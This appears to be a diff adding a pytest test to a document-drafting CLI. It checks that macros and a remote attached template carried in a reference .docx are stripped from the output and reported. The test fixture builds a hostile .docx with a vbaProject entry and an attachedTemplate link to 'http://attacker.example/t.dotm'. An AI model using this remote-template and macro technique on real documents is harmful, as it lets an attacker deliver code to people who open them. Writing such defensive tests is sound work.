@@ -605,3 +605,49 @@ def test_labels_linked_out_of_a_language_folder_are_not_validated(
     assert result.exit_code == 1
     assert "leads outside" in last_line(result)
     assert "private_key_name" not in result.stdout + result.stderr
+
+
+# What a reference document lends: styles, never macros or a template elsewhere ----------------
+
+def _with_macros_and_remote_template(reference: Path, target: Path) -> Path:
+    rels = ('<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/'
+            'relationships/vbaProject" Target="vbaProject.bin"/>')
+    remote = ('<Relationship Id="rIdTpl" Type="http://schemas.openxmlformats.org/officeDocument/'
+              '2006/relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
+              'TargetMode="External"/>')
+    with zipfile.ZipFile(reference) as old, zipfile.ZipFile(target, "w") as new:
+        names = old.namelist()
+        for name in names:
+            data = old.read(name)
+            if name == "word/_rels/document.xml.rels":
+                data = data.replace(b"</Relationships>", rels.encode() + b"</Relationships>")
+            elif name == "word/settings.xml":
+                data = re.sub(rb"(<w:settings[^>]*>)", rb'\1<w:attachedTemplate r:id="rIdTpl"/>',
+                              data, count=1)
+            new.writestr(name, data)
+        settings_rels = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+                         b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+                         b'relationships">' + remote.encode() + b"</Relationships>")
+        assert "word/_rels/settings.xml.rels" not in names
+        new.writestr("word/_rels/settings.xml.rels", settings_rels)
+        new.writestr("word/vbaProject.bin", b"Attribute VB_Name = \"AutoOpen\"")
+    return target
+
+
+def test_a_reference_documents_macros_and_remote_template_are_left_out_and_said(
+    caac: Run, tmp_path: Path, reference: Path
+) -> None:
+    hostile = _with_macros_and_remote_template(reference, tmp_path / "hostile.docx")
+    output = tmp_path / "statement.docx"
+    result = caac("draft", "statement", "--situation", "the Sudan", "--point", "Calling upon "
+                  "all parties", "-o", str(output), "--reference-docx", str(hostile))
+    assert result.exit_code == 0, result.stderr
+    assert (f"caac: warning: {hostile}: its macros (word/vbaProject.bin) are left out of the "
+            "documents") in result.stderr
+    assert (f"caac: warning: {hostile}: its link to the template http://attacker.example/t.dotm "
+            "is left out of the documents") in result.stderr
+    with zipfile.ZipFile(output) as built:
+        assert not any("vba" in name.lower() for name in built.namelist())
+        everything = b"".join(built.read(name) for name in built.namelist())
+    assert b"attacker.example" not in everything
+    assert b"attachedTemplate" not in everything and b"vbaProject" not in everything
